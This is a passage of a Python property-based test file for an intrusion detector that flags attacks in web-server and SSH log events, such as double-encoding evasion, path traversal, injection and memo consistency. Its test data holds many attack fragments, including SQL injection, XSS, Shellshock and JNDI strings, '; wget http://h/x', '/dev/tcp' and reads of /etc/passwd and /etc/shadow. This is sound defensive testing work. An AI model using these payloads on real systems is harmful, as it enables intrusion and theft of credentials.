    ("q=%c0", False),  # a truncated sequence looks like Latin-1 'À': not flagged
    ("off=100%25", False),  # a literal percent sign
    ("plain/path", False),  # no escape at all
]


@pytest.mark.parametrize(("raw", "expected"), EVASION_CASES)
def test_encoding_evasion_known_answers(raw: str, expected: bool) -> None:
    """Double encoding of characters nested URLs never escape twice, and invalid UTF-8, are evasion."""
    assert encoding_evasion(raw) is expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Mozilla/5.0 (+http://x/bot)", "mozilla/5.0 (+http://x/bot)"),  # '+' is no space in a header
        ("cat%20%2Fetc%2Fpasswd", "cat /etc/passwd"),  # escapes are decoded
        ("C:%5CWindows%5Cwin.ini", "c:/windows/win.ini"),  # '\\' read as '/'
    ],
)
def test_normalize_header_known_answers(raw: str, expected: str) -> None:
    """A header is decoded and lower-cased but keeps its '+'."""
    assert normalize_header(raw) == expected


_NO_PERCENT = st.text(max_size=60).filter(lambda text: "%" not in text)
# What a URL nested in a parameter value holds: letters, digits, spaces, delimiters, non-ASCII text.
_NESTED_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from("abcXYZ0189 -._~/:?#[]@!$&'()*+,;="),
        st.characters(min_codepoint=0xA0, exclude_categories=["Cs"]),
    ),
    max_size=40,
)


@settings(max_examples=200, deadline=None)
@given(_NO_PERCENT, _NESTED_TEXT)
def test_one_layer_of_encoding_is_never_evasion(text: str, nested: str) -> None:
    """Whatever a client encodes once is not flagged, nor a URL nested in a parameter value."""
    assert not encoding_evasion(quote(text, safe=""))
    assert not encoding_evasion("next=" + quote("/p?q=" + quote(nested, safe=" "), safe=""))


@settings(max_examples=200, deadline=None)
@given(_NO_PERCENT, st.sampled_from('abcXYZ09-._~<>"\\`{}|^\x00\r\n'))
def test_two_layers_over_a_plain_character_are_evasion(text: str, char: str) -> None:
    """A letter, a digit, a control or an attack character escaped twice is flagged wherever it sits."""
    assert encoding_evasion(quote(text, safe="") + f"%25{ord(char):02X}")


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(["/etc/passwd", "/etc/shadow", "/proc/self/environ"]),
    st.data(),
)
def test_any_glob_spelling_of_an_os_file_is_traversal(detect: SignalDetector, path: str, data: st.DataObject) -> None:
    """Replacing one letter of an OS file path by '?', '[x]', '[!q]' or a '*' run still names the file."""
    letters = [i for i, char in enumerate(path) if char.isalpha()]
    i = data.draw(st.sampled_from(letters))
    glob = data.draw(st.sampled_from(["?", f"[{path[i]}]", "[!q]", "*"]))
    spelled = path[:i] + glob + path[i + 1 :]
    assert "http.path_traversal" in rules(detect(http("/get?cmd=cat+" + quote(spelled, safe="/"))))


# Text that exercises decoding: escapes, '+', slashes, dots and case, nested up to three times.
_URLISH = st.text(alphabet="%+/.\\uUcCaAeEfF0123456789 x", max_size=2 * MAX_DECODE_ROUNDS - 4)
_NESTED = st.builds(
    lambda text, depth: _nest(text, depth),
    st.text(max_size=20),
    st.integers(min_value=0, max_value=3),
)


def _nest(text: str, depth: int) -> str:
    for _ in range(depth):
        text = quote(text, safe="")
    return text


@settings(max_examples=300, deadline=None)
@given(st.one_of(_URLISH, _NESTED, st.text(max_size=2 * MAX_DECODE_ROUNDS - 4)))
def test_decoding_is_idempotent_after_full_decode(raw: str) -> None:
    """Decoding an already fully decoded text changes nothing (for inputs the round limit fully decodes)."""
    for plus_as_space in (False, True):
        once = full_decode(raw, plus_as_space=plus_as_space)
        assert full_decode(once, plus_as_space=plus_as_space) == once
    assert normalize_path(normalize_path(raw)) == normalize_path(raw)
    assert normalize_query(normalize_query(raw)) == normalize_query(raw)


@settings(max_examples=50, deadline=None)
@given(st.text(max_size=20), st.integers(min_value=1, max_value=3))
def test_nested_encoding_is_fully_undone(text: str, depth: int) -> None:
    """Any number of percent-encoding layers (up to three here) decodes back to the original text."""
    assert full_decode(_nest(text, depth)) == full_decode(text)


_TEXT = st.text(max_size=300)
_OPTIONAL_TEXT = st.none() | _TEXT


@settings(max_examples=300, deadline=None)
@given(
    kind=st.sampled_from(EventKind),
    method=_OPTIONAL_TEXT,
    url=st.none() | _TEXT | _URLISH,
    http_version=_OPTIONAL_TEXT,
    status=st.none() | st.integers(min_value=-1, max_value=1000),
    referrer=_OPTIONAL_TEXT,
    user_agent=_OPTIONAL_TEXT,
    user=_OPTIONAL_TEXT,
    ssh_outcome=st.none() | st.sampled_from(SshOutcome),
    invalid_user=st.booleans(),
    extra=st.dictionaries(st.sampled_from(["request", "ssh_event", "x"]), _TEXT, max_size=3),
)
def test_detector_never_raises_on_arbitrary_event_strings(detect: SignalDetector, **fields: Any) -> None:
    """Any combination of field values gives a list of distinct registry signals, never an exception."""
    kind = fields.pop("kind")
    event = Event(kind=kind, source_ip="x", time=T0, **fields)
    signals = detect(event)
    assert all(signal is RULES[signal.rule] for signal in signals)
    assert len(signals) == len({signal.rule for signal in signals})


# --------------------------------------------------------------------------------------------- memo

# Pieces of attacks and of ordinary values, so that drawn values come close to every rule's edge: encoded
# and raw markers, gate characters and payloads that hide them (double encoding), OS files, scanner and
# bot names, login and admin paths, trailing spaces.
_PIECES = st.sampled_from(
    [
        *("/", "?", "&", "=", "+", " ", "%", "%25", "%20", "%2B", "%00", "\x00", "\r\n", "\\", ".", "*", "[s]"),
        *("'", '"', "(", ")", ";", "|", "`", "$", "${", "%28", "%7b", "%7B", "%24%7B", "<", ">", "&lt;"),
        *("..", "../", "..%2f", "%2e%2e%2f", "%252e", "%c0%af", "%2541", "%u0041", "0x2e0x2e", "..;"),
        *("/etc/passwd", "/et*/pas[s]wd", "win.ini", "php://filter", "http://198.51.100.9/x.txt?", "ftp://h/"),
        *("' or '1'='1", "+union+select+1,2--", "1;drop table t", "sleep(5)", "<script>", " onerror=", "onload="),
        *(";id", ";id ", "|id", "$(id)", "`id`", "; wget http://h/x", "env --version", "/dev/tcp/1/2", "<?php"),
        *("() { :; };", "%28%29%20%7B", "%2528%2529%2520%257B", "%u0028%u0029%u0020%u007b", "%7B%2528%2529%2520%257B"),
        *("${jndi:ldap://h/a}", "%2524%257Bjndi:", "${${lower:j}ndi:", "%0d%0aSet-Cookie:a=b", "%0ALocation:x"),
        *("/.env", "/.git/", "c99.php", "/wp-login.php", "/login", "/phpmyadmin/", "/manager/html", "/admin"),
        *("/bin/ba[s]h", "/bin/sh"),
        *("sqlmap", "Nikto", "zgrab", "MJ12bot", "Sogou web spider", "Mozilla/5.0 (X11; Linux x86_64)", "Gecko"),
        *("http://example.org/", "https://www.google.com/url?q=", "index.php", "/img/a.png", "a", "Z", "7"),
    ]
)
_VALUE = st.lists(_PIECES | st.text(max_size=4), max_size=8).map("".join)
# Values that recur across examples, so that the memo holds them in every role (target, agent, referrer).
_REPEATED = st.sampled_from(
    ["/", "/index.html", "/.env", "/blog/wp-login.php", "/phpmyadmin/", BROWSER, "sqlmap/1.7", "${jndi:", ""]
)
_FIELD = st.none() | _VALUE | _REPEATED
# Every event is also tried with each of these, so that the rules that weigh them always get their turn.
_METHOD_STATUS_USER = [
    (method, status, user)
    for method in ("GET", "POST", "TRACE", None)
    for status in (200, 400, 401, 403, 404, 408, None)
    for user in (None, "alice")
]


@functools.cache
def _detector(enabled: tuple[str, ...] | None) -> SignalDetector:
    """One detector per rule selection, shared by the examples (building one costs ~20 ms)."""
    return SignalDetector.build(SignalParams(enabled_rules=None if enabled is None else list(enabled)))


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.builds(
            http,
            url=_FIELD,
            http_version=st.sampled_from(["HTTP/1.1", "HTTP/2.0", "HTTP/1.2", None]),
            user_agent=_FIELD,
            referrer=_FIELD,
            extra=st.sampled_from([{}, {"request": "malformed"}]),
        ),
        min_size=1,
        max_size=3,
    ),
    st.sampled_from([None, ("http.shellshock",), ("http.jndi", "http.xss"), ("http.auth_failure", "http.bad_bot_ua")]),
)
def test_memoized_path_agrees_with_rule_by_rule_evaluation(
    events: list[Event], enabled: tuple[str, ...] | None
) -> None:
    """The fast path (per-value facts from the memo) fires exactly the rules that evaluating each rule on
    the event itself fires: for a value seen for the first time, for one read back from the memo, and for
    one seen before in another role (as a user agent, then as a referrer)."""
    detector = _detector(enabled)
    for event in events * 2:  # the second round reads every value from the memo
        for method, status, user in _METHOD_STATUS_USER:
            variant = dataclasses.replace(event, method=method, status=status, user=user)
            assert detector(variant) == detector._uncached(variant)


def test_memo_is_bounded_and_a_full_memo_changes_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    """A full memo starts over, and a value too long to keep is evaluated every time, with the same result."""
    monkeypatch.setattr("transforms.signals._MEMO_ENTRIES", 8)
    monkeypatch.setattr("transforms.signals._MEMO_KEY_CHARS", 40)
    detector = SignalDetector.build(SignalParams())
    long_attack = "/x?" + "a" * 40 + "=%27+or+%271%27%3D%271"
    events = [http(f"/page/{i}.html", user_agent=f"agent {i}") for i in range(20)] + [http(long_attack)]
    for event in events * 2:
        assert detector(event) == detector._uncached(event)
    assert len(detector._target_memo) <= 8
    assert len(detector._user_agent_memo) <= 8
    assert long_attack not in detector._target_memo
    assert rules(detector(http(long_attack))) == {"http.sqli"}
